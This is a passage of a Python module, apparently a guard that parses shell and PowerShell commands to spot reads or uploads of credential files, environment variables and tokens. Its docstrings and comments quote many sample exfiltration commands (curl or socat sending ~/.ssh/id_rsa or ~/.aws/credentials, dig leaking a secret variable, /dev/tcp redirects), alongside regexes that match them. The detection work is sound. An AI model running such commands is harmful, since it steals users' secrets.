    credential, the environment or a secret variable; it is an HTTP client (a secret written
    in a URL) or keeps the headers a token may be printed into; it is a CLI printing a
    credential (``gh auth token``). A command that does none of these reads no secret, so
    with none flowing in it sends none (:meth:`Pipeline.add`)."""
    text = " ".join((*command.words, *command.inputs, cwd or ""))
    if MAYBE_CREDENTIAL.search(text) or _NAMES_SECRET.search(text):
        return True
    name = basename(words[0]) if words else ""
    return (
        name in _CALLS_APIS
        or printed_credential(words) is not None
        or _environments_shown(name, words[1:]) is not None
    )


# ps's options that take the next word as their value (`ps -o user`), also last in a
# cluster (`ps -eo user`): that word is no BSD-style option.
_PS_VALUES = frozenset("oOpuUgGtCqk")


_FORMATS = frozenset({"-f", "--format"})


def _environments_shown(name: str, args: Sequence[str]) -> str | None:
    """The environments ``name`` given ``args`` prints, named, or None: each process's, by
    ``ps``'s BSD-style ``e`` (``ps eww``, ``ps auxe``) or macOS's ``ps -E``; a container's
    or an image's, by ``docker inspect`` (also ``podman``, ``nerdctl``, ``container
    inspect``), unless its ``--format`` picks something else."""
    if name == "ps":
        value = False  # the word is an option's value
        for arg in args:
            if value:
                value = False
            elif arg.startswith("-"):
                if "E" in arg and not arg.startswith("--"):
                    return "the environment of every process"
                value = arg[-1] in _PS_VALUES and not arg.startswith("--")
            elif arg.isalpha() and "e" in arg:
                return "the environment of every process"
        return None
    if name not in RUNTIMES or "inspect" not in args[:2]:
        return None
    formats = option_values(args, _FORMATS)
    shown = not formats or any("Env" in f or "json ." in f or ".Config}" in f for f in formats)
    return f"the environment `{name} inspect` prints" if shown else None


def _secret_read_by(command: Command) -> str | None:
    """The credential file (or ``the environment``) whose content ``command`` prints."""
    given = _printer(command.words)
    first = basename(given[0]) if given else ""
    rest = given[1:]
    if first in ("env", "printenv") and not any(
        not w.startswith("-") and "=" not in w for w in rest
    ):
        return "the environment"
    if (first, tuple(rest)) in (("set", ()), ("export", ("-p",)), ("declare", ("-x",))):
        return "the environment"
    if any("/proc/" in w and w.endswith("/environ") for w in (*command.words, *command.inputs)):
        return "the environment"  # also read from its input: tr '\0' '\n' < /proc/self/environ
    if shown := _environments_shown(first, rest):
        return shown
    if first.lower() in _POWERSHELL_LISTS and any(
        w.lower() in ("env:", "env:\\*", "env:*") for w in rest
    ):
        return "the environment"  # Get-ChildItem env: | Out-String
    if "--export-secret-keys" in rest or "--export-secret-subkeys" in rest:
        return "private GPG keys"
    if first in ("echo", "printf", "printenv"):  # one secret variable: `echo $AWS_SECRET_…`
        named = next((m.group(1) for w in rest if (m := _SECRET_VARIABLE.search(w))), None)
        if named:
            return "$" + named
    words, _ = unwrap(command.words)
    if printed := printed_credential(words):
        return printed
    name = basename(words[0]) if words else ""
    if inner := container_exec(words):  # kubectl exec … -- printenv
        return _secret_read_by(replace(command, words=tuple(inner), inputs=()))
    if name == "ssh" and (remote := ssh_command(words[1:])):
        # ssh host 'cat ~/.aws/credentials' | …: the remote file comes out
        read = (_secret_read_by(c) for c in parse(remote) if c.words)
        if remote_read := next((r for r in read if r is not None), None):
            return remote_read
    if name == "git" and (shown := _git_printed(words[1:])):
        return shown  # git show HEAD~3:.env, git diff A B -- .env
    if name in RUNTIMES and words[1:2] == ["cp"] and words[-1:] == ["-"]:
        source = next((w for w in words[2:-1] if ":" in w and not w.startswith("-")), "")
        if is_credential(copied := source.partition(":")[2]):
            return copied  # docker cp api:/app/.env -: its archive, on the output
    transforms = name == "openssl" and words[1:2] != ["s_client"]  # openssl enc -in F: prints
    if not words or name in _NOT_READERS or (name in _SENDERS and not transforms):
        return next((f for f in command.inputs if is_credential(f)), None)
    found = [w for w in operands(words[1:]) if is_credential(w)]
    if not _INPUT_OPTIONS.isdisjoint(words):
        found += [b for a, b in with_next(words[1:]) if a in _INPUT_OPTIONS and is_credential(b)]
    found += [f for f in command.inputs if is_credential(f)]
    return found[0] if found else None


def _sent_by(
    words: Sequence[str], stdin: str | None, is_credential: Callable[[str], bool]
) -> str | None:
    """The credential ``words`` send to the network (``stdin``: the one flowing into it;
    ``is_credential``: whether a file holds one)."""
    name, args = basename(words[0]), list(words[1:])
    if name == "curl":
        for path in _curl_files(args):
            if path in STDIN and stdin:
                return stdin
            if is_credential(path):
                return path
        return stdin or _secret_body(args) or _written_secret(args)
    if name == "bitsadmin" and "/upload" in (a.lower() for a in args):  # /upload URL FILE
        return next((a for a in reversed(args) if is_credential(a)), None)
    options = _CMDLET_UPLOADS.get(name.lower(), ())
    # Write-S3Object -File F, Send-MailMessage -Attachments F, Invoke-WebRequest -InFile F
    # (a copy the line made too: an archive Compress-Archive made of ~/.ssh)
    named = [b for a, b in with_next(args) if a.lower() in options] if options else []
    if sent := next((f for f in named if is_credential(f)), None):
        return sent
    if name.lower() in _LOCAL_COPIES and (shared := _copied_to_share(args, is_credential)):
        return shared
    if name in ("gh", "glab") and (sent := _hosted_secret(name, args, stdin, is_credential)):
        return sent
    if name == "find":
        return _found_and_sent(args, is_credential)
    if name == "wget":
        for arg, value in with_next(args):
            for option in ("--post-file", "--body-file"):
                if arg == option and is_credential(value):
                    return value
                if arg.startswith(option + "=") and is_credential(arg.partition("=")[2]):
                    return arg.partition("=")[2]
        return stdin or _written_secret(args, wget=True)
    if name in _COPIES:
        found = operands(args, _SSH_VALUES | (_EXCLUDES if name == "rsync" else frozenset()))
        if len(found) >= 2 and on_remote(found[-1]):
            return next((f for f in found[:-1] if is_credential(f.rstrip("/"))), None)
        return stdin if name == "sftp" else None
    if name == "socat":  # socat -u FILE:$HOME/.aws/credentials TCP:h:9
        for arg in args:
            kind, colon, rest = arg.partition(":")
            path = rest.partition(",")[0]
            if colon and kind.upper() in _SOCAT_FILES and is_credential(path):
                return path
    if name in ("http", "https", "xh"):
        for arg in args:
            path = arg.rpartition("@")[2] if "@" in arg else ""
            if path and is_credential(path):
                return path
    if name == "swaks":  # swaks --attach @~/.ssh/id_rsa, --body @F
        given = [v.removeprefix("@") for v in option_values(args, _SWAKS_FILES)]
        return next((v for v in given if is_credential(v)), None) or stdin
    if name == "mutt" and "-a" in args:
        attached = args[args.index("-a") + 1 :]
        if attachment := next((a for a in attached if is_credential(a)), None):
            return attachment
    if name in _RESOLVERS:  # dig $AWS_SECRET_ACCESS_KEY.x.example.com
        return next(
            (m.group(1) for w in args if (m := _SECRET_VARIABLE.search(w)) and "$" in w), None
        )
    if name in _UPLOADERS and (sent := _uploaded(name, args, is_credential)):
        return sent  # gh release upload v1 ~/.aws/credentials, croc send ~/.ssh/id_rsa
    if name in _BACKUPS:
        return _backed_up(name, args, is_credential)
    if name in _CLOUD_COPY:
        found = _remote_operands(name, args)
        if found and stdin and _uploads_stdin(found):
            return stdin  # cat ~/.kube/config | gh gist create -
        verb = next((at for at, word in enumerate(found) if word in _COPY_VERBS), None)
        if verb is not None and len(found) > verb + 2:  # sources, then where they go
            if not ("://" in found[-1] or on_remote(found[-1])):
                return None  # a download: aws s3 cp s3://b/dev.env .env
            found = found[verb + 1 : -1]
        return next((f for f in found if is_credential(f)), None)
    if name == "openssl" and "s_client" not in args:  # openssl x509, enc: local, no network
        return None
    return stdin if name in _RAW else None


_VARIABLE_REFERENCE = re.compile(r"\$\{(\w+)\}|\$(\w+)")


_LISTERS = frozenset({"ls", "find", "realpath", "readlink", "echo", "printf"})


def _listed_credential(words: Sequence[str]) -> str | None:
    """The credential whose path ``ls``, ``find`` or ``echo`` prints (``ls ~/.ssh/id_*``,
    ``find ~/.ssh -name 'id_*'``), as a substitution may give it to a variable or a pipe
    to ``xargs``."""
    if not words or basename(words[0]) not in _LISTERS:
        return None
    found = [w for w in words[1:] if not w.startswith("-") and is_credential(w.rstrip("/"))]
    if not found and basename(words[0]) == "find":  # find . -name '.env*': the files it names
        names = option_values(words[1:], _FIND_NAMES)
        found = [n for n in names if "*" in n and is_credential(n.replace("*", ""))]
    return found[0] if found else None


_FIND_NAMES = frozenset({"-name", "-iname"})


def _keeps_public_keys(words: Sequence[str]) -> bool:
    """Whether a filter keeps only the public keys of a listing (``grep pub``, ``grep
    '\\.pub$'``), not leaves them out (``grep -v pub``)."""
    if not words or basename(words[0]) not in ("grep", "egrep", "rg"):
        return False
    return "-v" not in words and any("pub" in w for w in words[1:] if not w.startswith("-"))


_XARGS = frozenset({"xargs"})


def _fed_by_xargs(
    given: Sequence[str], words: Sequence[str], piped: str | None
) -> list[str] | None:
    """``words``, the command ``xargs -I REPL`` runs, with REPL replaced by the line its
    here-string gives it (``xargs -I{} curl -F f=@{} <<< "$HOME/.ssh/id_rsa"``, ``sudo
    xargs …`` too) or, without one, by the credential's path ``piped`` into it; None when
    ``given`` is no such xargs."""
    given = given[after_wrappers(given, keep=_XARGS) :]  # `time xargs`, `sudo xargs`
    if not given or basename(given[0]) != "xargs" or not (line := here_string(given) or piped):
        return None
    mark = replaced_item(given[1:])
    return [w.replace(mark, line) for w in words] if mark else None


def _found_and_sent(args: Sequence[str], is_credential: Callable[[str], bool]) -> str | None:
    """The credential ``find ROOT … -exec SENDER … {} \\;`` sends, each file found in its
    turn: a credential folder searched (``find ~/.ssh -name 'id_*' -exec curl -F f=@{}``)
    for what is not a public key, or files named as credentials (``-name '*.pem'``)."""
    runs = [run for run in found_commands("find", args) if basename(run[0]) in _SENDERS]
    if not runs:
        return None
    roots = list(itertools.takewhile(lambda a: a[:1] not in ("-", "(", "!"), args))
    # The names it looks for, without those it leaves out (`! -name '*.pub'`, `-not -name`).
    names = [
        value
        for before, (option, value) in zip(["", *args], with_next(args), strict=False)
        if option in ("-name", "-iname") and before not in ("!", "-not")
    ]
    kept = [n for n in names if not n.endswith(".pub")]
    if names and not kept and len(names) == 1:  # only public keys
        return None
    for root in roots or ["."]:
        found = f"{root.rstrip('/')}/{kept[0]}" if len(kept) == 1 and len(names) == 1 else root
        for run in runs:
            if sent := _sent_by([w.replace("{}", found) for w in run], None, is_credential):
                return sent
    return None


def _written_secret(args: Sequence[str], wget: bool = False) -> str | None:
    """A secret curl's (or ``wget``'s) URL or body holds literally, sent to another service
    than its own (``curl "https://t.example/p?ak=AKIA…"``)."""
    if not may_hold_secret(" ".join(args)):
        return None
    urls = [a for a in args if "://" in a and not a.startswith("-")]
    if wget:
        body = "\n".join(a.partition("=")[2] for a in args if a.startswith(_WGET_BODIES))
    else:
        body = "\n".join(given for option, given in _curl_options(args) if option in _CURL_DATA)
    kinds = (leaked_secret(url, body) for url in urls[:_HEADERS])
    kind = next((k for k in kinds if k), None)
    return f"a {kind} written in the request" if kind else None


# Package managers whose `publish` sends the working directory's package to a registry.
_PUBLISHERS = frozenset({"npm", "pnpm", "yarn", "bun", "poetry", "uv", "cargo", "hatch", "flit"})
# Compressors that replace a file with its compressed copy, named with their suffix.
_COMPRESSED = {"gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "xz": ".xz", "zstd": ".zst"}
_SWAKS_FILES = frozenset({"--attach", "--attach-body", "--body", "--data"})


def _prints_files(words: Sequence[str]) -> bool:
    """Whether ``words`` print the files given to them, whole or changed (``cat``,
    ``base64``, ``tar czf -``, ``zip -``)."""
    name = basename(words[0]) if words else ""
    return name in _TRANSFORMS or (name in ("tar", "zip", "7z") and "-" in words)


def _publishes(words: Sequence[str]) -> bool:
    """Whether ``words`` publish the project in the working folder to a package registry
    (``npm publish``, ``twine upload dist/*``, ``python -m twine upload``, ``gem push``)."""
    if words[1:3] == ["-m", "twine"]:
        words = words[2:]
    name, verb = basename(words[0]) if words else "", words[1:2]
    return (
        (name in _PUBLISHERS and verb == ["publish"])
        or (name == "twine" and verb == ["upload"])
        or (name == "gem" and verb == ["push"])
    )


def _git_printed(args: Sequence[str]) -> str | None:
    """The credential file whose content git prints from the repository (``git show
    HEAD~3:.env``, ``git cat-file -p REV:.env``, ``git diff A B -- .env``, ``git log -p --
    .env``), or None."""
    sub, rest = (args[0], list(args[1:])) if args else ("", [])
    paths = []
    if sub in ("show", "cat-file"):
        paths = [a.partition(":")[2] for a in rest if ":" in a and not a.startswith("-")]
    patches = sub in ("diff", "show", "blame") or (sub == "log" and "-p" in rest)
    if "--" in rest and (patches or "--patch" in rest):
        paths += rest[rest.index("--") + 1 :]
    return next((path for path in paths if is_credential(path)), None)


# Programs that call an API with the headers they are given (a token printed into one).
_CALLS_APIS = HTTP_CLIENTS | {"gh"}


# PowerShell's cmdlets that send the files their options name (in lower case).
_CMDLET_UPLOADS = {
    "write-s3object": ("-file",),
    "write-gcsobject": ("-file",),
    "set-azstorageblobcontent": ("-file",),
    "set-azstoragefilecontent": ("-source",),
    "send-mailmessage": ("-attachments",),
    **dict.fromkeys(("invoke-webrequest", "invoke-restmethod", "iwr", "irm"), ("-infile",)),
}
# Copies that send what they copy when the destination is another host's share (a UNC
# path, made `//host/share` by then): `Copy-Item F \\host\drop\`, `copy`, `robocopy`.
_LOCAL_COPIES = frozenset({"copy-item", "copy", "cp", "xcopy", "robocopy", "move-item", "move"})


def _copied_to_share(args: Sequence[str], is_credential: Callable[[str], bool]) -> str | None:
    found = [a for a in args if not a.startswith(("-", "/")) or a.startswith("//")]
    if len(found) < 2 or not _SHARE.match(found[-1]):
        return None
    return next((f for f in found[:-1] if is_credential(f.rstrip("/"))), None)


_SHARE = re.compile(r"//(?!\./|wsl|localhost/|127\.)[\w.-]+/")


def _secret_body(args: Sequence[str]) -> str | None:
    """The secret variable curl sends as a whole body (``-d "$DATABASE_URL"``); one field of
    a form (``-d client_secret=$CLIENT_SECRET``) is a token request, not this."""
    if not any(a[:1] == "$" for a in args):
        return None
    for option, given in _curl_options(args):
        found = _ONE_VARIABLE.fullmatch(given) if option in _CURL_DATA else None
        if found and _SECRET_VARIABLE.fullmatch(found[1]):
            return "$" + found[1]
    return None


_WGET_BODIES = ("--post-data=", "--body-data=")
_ONE_VARIABLE = re.compile(r"\$(?:env:)?\{?([A-Za-z_]\w*)\}?")  # (PowerShell's `$env:X` too)


def _hosted_secret(
    name: str, args: Sequence[str], stdin: str | None, is_credential: Callable[[str], bool]
) -> str | None:
    """The credential a code host's CLI is given to keep: a file (``gh api gists -F
    'files[k][content]=@~/.kube/config'``), or what flows in as a secret's or variable's
    value (``gh secret set K < ~/.ssh/id_ed25519``, ``… | glab variable set K``)."""
    verbs = operands(args, _HOSTED_VALUES)
    if verbs[:3] == ["repo", "deploy-key", "add"]:  # the private half given as a deploy key
        return next((f for f in verbs[3:] if is_credential(f)), None)
    if verbs[:1] == ["api"]:
        fields = [b for a, b in with_next(args) if a in ("-F", "--field", "--input")]
        files = [f.partition("=@")[2] or f for f in fields if "=@" in f or f[:1] != "-"]
        return next((f for f in files if is_credential(f)), None)
    if verbs[:2] in (["secret", "set"], ["variable", "set"], ["variable", "create"]):
        # gh secret set -f .env.production: each line of the file a secret kept
        files = [b for a, b in with_next(args) if a in ("-f", "--env-file")]
        return next((f for f in files if is_credential(f)), None) or stdin
    return None


_HOSTED_VALUES = frozenset({"-R", "--repo", "-e", "--env", "--org", "-o", "-g", "--group"})


def _uploaded(name: str, args: Sequence[str], is_credential: Callable[[str], bool]) -> str | None:
    """The credential an upload of :data:`_UPLOADS` names among the files it sends."""
    found = operands(args)
    for key, options in _UPLOADS.items():
        if key[0] != name or found[: len(key) - 1] != list(key[1:]):
            continue
        if options:
            sent = [b for a, b in with_next(args) if a in options]
            sent += [a.partition("=")[2] for a in args if a.partition("=")[0] in options]
        else:
            sent = found[len(key) - 1 :]
            if key[-1] in _COPY_VERBS and len(sent) > 1:
                sent = sent[:-1]  # the last is where they go
        return next((f for f in sent if is_credential(f.removeprefix("@"))), None)
    return None


def _backed_up(name: str, args: Sequence[str], is_credential: Callable[[str], bool]) -> str | None:
    """The credential a backup tool sends to a remote repository (``restic -r s3:…/r backup
    ~/.ssh``, ``borg create ssh://h/./r::a ~/.aws``, ``duplicity ~/.ssh sftp://h/b``); none
    for a repository on this machine (a path, restic's ``local:``) or one the line does not
    name (restic's from the environment)."""
    found = operands(args, _BACKUP_VALUES)
    if name == "restic":
        given = [b for a, b in with_next(args) if a in ("-r", "--repo")]
        given += [a.partition("=")[2] for a in args if a.startswith("--repo=")]
        remote = any(on_remote(repo) and not repo.startswith("local:") for repo in given)
        sent = found[1:] if found[:1] == ["backup"] and remote else []
    elif name == "borg":
        repository = found[1].partition("::")[0] if found[:1] == ["create"] and found[1:] else ""
        sent = found[2:] if on_remote(repository) else []
    else:  # duplicity [full|incremental] SOURCE URL
        found = [f for f in found if f not in ("full", "incr", "incremental", "backup")]
        remote = len(found) == 2 and "://" in found[1] and not found[1].startswith("file:")
        sent = found[:1] if remote else []
    return next((f for f in sent if is_credential(f.rstrip("/"))), None)


# Options of `gh gist create` whose value is no file sent (`-d "notes" -`); other CLIs'
# `-d` is a switch (`gsutil rsync -d`).
_GIST_VALUES = frozenset({"-d", "--desc", "-f", "--filename"})
# The options of a cloud copy that take a value (`aws s3 cp F s3://b/k --profile p`).
_CLOUD_COPY_VALUES = {
    "gh": _GIST_VALUES,
    "aws": frozenset(
        {"--profile", "--region", "--endpoint-url", "--sse", "--storage-class", "--acl"}
        | {"--content-type", "--cache-control", "--expires", "--metadata", "--exclude"}
        | {"--include", "--sse-kms-key-id", "--grants", "--output", "--query"}
    ),
    "gsutil": frozenset({"-h", "-p", "-o"}),
    "gcloud": frozenset({"--project", "--account", "--configuration"}),
    "az": frozenset({"--account-name", "--subscription", "--auth-mode", "-c", "--container"}),
}
# Uploads of standard input that name no file for it: `gh gist create` given none,
# `rclone rcat remote:path`, `mc pipe alias/bucket/key`.
_STDIN_UPLOADS = (["rcat"], ["pipe"])


def _remote_operands(name: str, args: Sequence[str]) -> list[str]:
    """The operands of a cloud copy that sends somewhere remote (a ``s3://`` URL, a
    ``remote:path``, a gist); none when it copies nothing out."""
    found = operands(args, _CLOUD_COPY_VALUES.get(name, frozenset()))
    remote = any("://" in f or on_remote(f) for f in found) or found[:2] == ["gist", "create"]
    return found if remote else []


def _uploads_stdin(found: Sequence[str]) -> bool:
    """Whether a cloud copy whose operands are ``found`` uploads its standard input: stdin
    named where a file sent stands (``gh gist create -``, ``aws s3 cp - s3://b/k``,
    ``gsutil cp /dev/stdin gs://b/o``), or an upload that reads it unnamed (``gh gist
    create`` with no file, ``rclone rcat r:k``). Not a download to stdout (``aws s3 cp
    s3://b/k -``): the last operand of a copy is where it goes."""
    if found[:2] == ["gist", "create"]:
        sent = found[2:]
        return not sent or any(f in STDIN for f in sent)
    return found[:1] in _STDIN_UPLOADS or any(f in STDIN for f in found[:-1])


# bash's network files, opened on a descriptor for a later `>&3`: by `exec 3<>/dev/tcp/h/80`
# however `exec` is spelt (`"exec"`, `\exec`), or for one command (`cat F 3>/dev/tcp/h/80 >&3`).
_OPENED_SOCKET = re.compile(
    r"(?<![^\s;&|(])([0-9]+|\{\w+\})\s*(?:<>|>>?|>\|)\s*(/dev/(?:tcp|udp)/[^\s;&|]+)"
)


def socket_redirects(line: str) -> str:
    """``line`` with each write to a descriptor that ``exec`` opened on bash's ``/dev/tcp``
    or ``/dev/udp`` (``exec 3<>/dev/tcp/h/80; cat ~/.aws/credentials >&3``) written as a
    redirect to that network file, which a sender's check then sees."""
    if "/dev/tcp/" not in line and "/dev/udp/" not in line:
        return line
    opened = dict(_OPENED_SOCKET.findall(line))
    for fd, address in list(opened.items())[:_HEADERS]:  # a line opening 10,000: the first
        if fd.startswith("{"):  # exec {fd}<>/dev/tcp/h/80; … >&$fd
            target = r"\$\{?" + re.escape(fd[1:-1]) + r"\}?(?!\w)"
        else:
            target = fd + r"(?![0-9])"
        duplicate = re.compile(r"(?<![0-9<])[0-9]?>&\s*" + target)
        line = duplicate.sub(" >" + address.replace("\\", "\\\\"), line)
    return line


# PowerShell's HTTP clients, and a statement of theirs (up to `;`, `|` or a line's end).
# Get-Content's switches and options before the path it reads (`-Raw`, `-Encoding utf8`).
_CONTENT_OPTIONS = (
    r"(?:\s+-(?:Raw|AsByteStream|Path|LiteralPath|(?:Encoding|ReadCount|TotalCount)\s+[\w-]+))*"
)
_POWERSHELL_SENDER = Prefiltered(
    re.compile(
        r"(?i)(?:\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b|(?=\.UploadFile\())"
        r"([^;|\n]*)"
    ),
    ("invoke-", "iwr", "irm", ".uploadfile("),
)
# What they send: a file (`-InFile F`), or a body read from one (`-Body (Get-Content F)`,
# `-Body ([IO.File]::ReadAllText("F"))`).
_POWERSHELL_SENT = re.compile(
    r"(?i)-InFile[:\s]\s*['\"]?([^\s'\")]+)"
    # .NET's WebClient: (New-Object Net.WebClient).UploadFile(URL, F)
    r"|\.UploadFile\(\s*['\"][^'\"]*['\"]\s*,\s*['\"]?([^\s'\")]+)"
    r"|-Body[:\s]\s*\$?\(\s*(?:Get-Content|gc|cat|type)" + _CONTENT_OPTIONS + r"\s+"
    r"['\"]?([^\s'\")]+)"
    r"|-Body[:\s]\s*\$?\(\s*\[(?:System\.)?IO\.File\]::ReadAll\w+\(\s*['\"]?([^\s'\")]+)"
    # a hashtable body one of whose values is read from a file (`-Body (@{ text = (Get-Content
    # F -Raw) } | ConvertTo-Json)`)
    r"|-Body[:\s]\s*(?:\$?\(\s*)?@\{[^}]*?\(\s*(?:Get-Content|gc|cat|type)"
    + _CONTENT_OPTIONS
    + r"\s+['\"]?([^\s'\")]+)"
    # a form one of whose fields is a file (`-Form @{ file = Get-Item ~/.kube/config }`)
    + r"|-Form[:\s]\s*(?:\$?\(\s*)?@\{[^}]*?=\s*\(?\s*(?:Get-Item|gi|Get-ChildItem)\s+"
    + r"(?:-(?:Literal)?Path\s+)?['\"]?([^\s'\")}]+)"
)


def powershell_sends(line: str) -> str | None:
    """The credential file a PowerShell HTTP client sends (``Invoke-WebRequest -Method Post
    -InFile $env:USERPROFILE/.aws/credentials``, ``irm -Body (Get-Content ~/.ssh/id_rsa)``;
    Windows' backslashes already made slashes), if any."""
    statements = list(_POWERSHELL_SENDER.finditer(line))
    if not statements:
        return None
    # `$c = Get-Content F -Raw; Invoke-RestMethod … -Body $c`: the variable holds F.
    held = {
        m.group(1).lower(): path
        for m in _POWERSHELL_READ.finditer(line)
        if is_credential(path := m.group(2) or m.group(3) or "")
    }
    # `$t = gh auth token; Invoke-RestMethod … -Body (@{text=$t} | ConvertTo-Json)`
    for m in _POWERSHELL_PRINTED.finditer(line) if "=" in line else ():
        if printed := printed_credential(m.group(2).split()):
            held[m.group(1).lower()] = printed
    for statement in statements:
        if _POWERSHELL_ENVIRONMENT.search(statement.group(1)):
            return "the environment"  # -Body (Get-ChildItem env: | Out-String)
        for sent in _POWERSHELL_SENT.finditer(statement.group(1)):
            path = next((g for g in sent.groups() if g), "")
            if is_credential(path):
                return path
        for variable in _POWERSHELL_BODY.findall(statement.group(1)) if held else ():
            if variable.lower() in held:
                return held[variable.lower()]
    return None


# A variable given a file's text, also as a value of a hashtable (`$b = @{ text = (Get-Content
# F -Raw) } | ConvertTo-Json`).
_POWERSHELL_READ = re.compile(
    r"(?i)\$(\w+)\s*=\s*(?:\$?\(\s*)?(?:@\{[^}]*?\(\s*)?(?:(?:Get-Content|gc|cat|type)"
    + _CONTENT_OPTIONS
    + r"\s+['\"]?([^\s'\")]+)|\[(?:System\.)?IO\.File\]::ReadAll\w+\(\s*['\"]?([^\s'\")]+))"
)
_POWERSHELL_ENVIRONMENT = re.compile(
    r"(?i)-Body[:\s]\s*\$?\(\s*(?:(?:Get-ChildItem|gci|dir|ls)\s+env:"
    r"|\[(?:System\.)?Environment\]::GetEnvironmentVariables)"
)
# A variable sent as the body or the file, or as a value of a hashtable body.
_POWERSHELL_BODY = re.compile(
    r"(?i)-(?:Body|InFile)[:\s]\s*(?:['\"]|(?:\$?\(\s*)?@\{[^}]*?=\s*)?\$(\w+)"
)
# A variable given what a command prints (`$t = gh auth token`, read as `t=$(gh auth
# token)`), to its statement's end.
_POWERSHELL_PRINTED = re.compile(
    r"(?<![\w-])\$?(\w+)\s*=\s*(?:\$\(\s*)?(?:&\s*)?([\w.-]+(?:[ \t]+[^\s;|)]+)*)"
)


TRANSFERS = frozenset({"sftp", "ftp", "lftp", "smbclient", "tftp", "ncftp", "yafc", "pftp"})
"""Transfer programs that take their commands from a script (a here-string, a here-document,
``-b``/``-f`` files, stdin, ``-c``), not from their arguments."""
# A statement of such a script that uploads local files: put, mput, reput, append, send,
# lftp's reverse mirror; after a newline, `;`, a written `\n` or a `$'…'` quote's `$`.
_UPLOAD = re.compile(
    r"(?:^|[\n;]|\\n|\$)[ \t]*(?:(put|reput|append|send)|mput|mirror\s+(?:-R|--reverse))"
    r"[ \t]+([^\n;\\]+)",
    re.MULTILINE,
)


def uploads_credential(script: str) -> str | None:
    """The credential file a transfer program's ``script`` uploads (``put ~/.ssh/id_rsa``),
    if any: the local file of ``put``, every file of ``mput``."""
    for match in _UPLOAD.finditer(script):
        files = [w.strip("'\"") for w in match.group(2).split() if not w.startswith("-")]
        for file in files[:1] if match.group(1) else files:
            if is_credential(file.rstrip("/")):
                return file
    return None


def _curl_files(args: Sequence[str]) -> list[str]:
    """The files curl sends: ``-d @file``, ``-F name=@file``, ``-T file`` (``-``: stdin),
    also from a cluster of short options (``-sT file``, ``-sSd @file``)."""
    files: list[str] = []
    for option, given in _curl_options(args):
        for options, attached in ((_CURL_DATA, "@"), (_CURL_FORM, "=@"), (_CURL_UPLOAD, "")):
            if option in options:
                files += _named_file(given, attached)
    return files


# curl's short options that take a value; the others are switches a cluster may hold
# before one that does (`-sSLT file`: -s, -S, -L, then -T's file).
_CURL_VALUED = frozenset("AbcCdDeEFHKmoPQrtTuUwxXyYz")


def _curl_options(args: Sequence[str]) -> list[tuple[str, str]]:
    """curl's options and their values, long (``--data x``, ``--data=x``) or short, alone
    (``-d x``), attached (``-dx``) or clustered (``-sSd x``)."""
    found: list[tuple[str, str]] = []
    for arg, value in with_next(args):
        if arg.startswith("--"):
            name, equals, attached = arg.partition("=")
            found.append((name, attached if equals else value))
        elif arg.startswith("-") and len(arg) > 1:
            for at, letter in enumerate(arg[1:], start=1):
                if letter in _CURL_VALUED:
                    found.append(("-" + letter, arg[at + 1 :] or value))
                    break
    return found


def _named_file(value: str, marker: str) -> list[str]:
    if not marker:
        return [value]
    if marker == "=@":
        for sign in ("=@", "=<"):
            if sign in value:
                return [value.partition(sign)[2].partition(";")[0]]
        return []
    if "@" in value:
        return [value.partition("@")[2]]
    return []
